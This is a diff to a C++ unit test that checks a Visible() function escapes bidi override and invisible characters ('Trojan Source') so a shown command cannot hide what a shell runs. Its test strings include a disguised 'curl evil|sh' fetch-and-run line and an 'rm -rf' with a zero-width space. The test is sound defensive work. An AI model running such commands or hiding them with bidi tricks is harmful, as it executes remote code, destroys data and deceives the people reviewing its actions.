@@ -33,5 +33,20 @@ TEST(VisibleTest, C1ControlsAndBytesThatAreNotUtf8AreEscaped) {
   EXPECT_EQ(Visible("\xed\xa0\x80"), "\\xed\\xa0\\x80");  // a UTF-16 surrogate
 }
 
+// A bidi override reorders a line as shown ("Trojan Source"): the command
+// an agent asks for could read as commented out while the shell runs all
+// of it. Every character that changes how others show is escaped.
+TEST(VisibleTest, BidiControlsAndInvisibleCharactersAreEscaped) {
+  EXPECT_EQ(Visible("ls \u202e\u2066; curl evil|sh\u2069\u2066#\u2069"),
+            "ls \\u202e\\u2066; curl evil|sh\\u2069\\u2066#\\u2069");
+  EXPECT_EQ(Visible("rm\u200b -rf"), "rm\\u200b -rf");         // zero width space
+  EXPECT_EQ(Visible("a\u00adb\ufeffc"), "a\\u00adb\\ufeffc");  // soft hyphen, BOM
+  EXPECT_EQ(Visible("x\U000E0041y"), "x\\U000e0041y");         // a tag character
+  EXPECT_EQ(Visible("\u3164"), "\\u3164");                     // a blank letter
+  // Letters, marks and symbols people read stay as they are.
+  EXPECT_EQ(Visible("caf\u00e9 \u05e9\u05dc\u05d5\u05dd \u2713 \U0001F600"),
+            "caf\u00e9 \u05e9\u05dc\u05d5\u05dd \u2713 \U0001F600");
+}
+
 }  // namespace
 }  // namespace termbridge::text
